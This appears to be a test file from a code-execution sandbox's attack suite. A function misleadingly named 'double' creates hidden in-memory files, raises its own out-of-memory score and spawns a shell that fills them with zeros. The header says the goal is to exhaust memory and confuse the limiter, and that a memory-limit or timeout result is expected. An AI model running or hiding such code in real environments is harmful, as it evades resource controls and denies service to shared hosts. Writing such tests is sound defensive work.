# attack: becomes a tiny program that holds the memory in files, so that process 1 looks the largest
# expect: memory_limit|timeout
# modes: docker shared
import os


def double(x):
    descriptors = [os.memfd_create("hidden", 0) for _ in range(20)]
    for descriptor in descriptors:
        os.set_inheritable(descriptor, True)
    try:
        with open("/proc/self/oom_score_adj", "w") as file:
            file.write("500")
    except OSError:
        pass
    os.execv("/bin/sh", ["sh", "-c", "; ".join(f"head -c 60000000 /dev/zero > /proc/self/fd/{n}" for n in descriptors)])
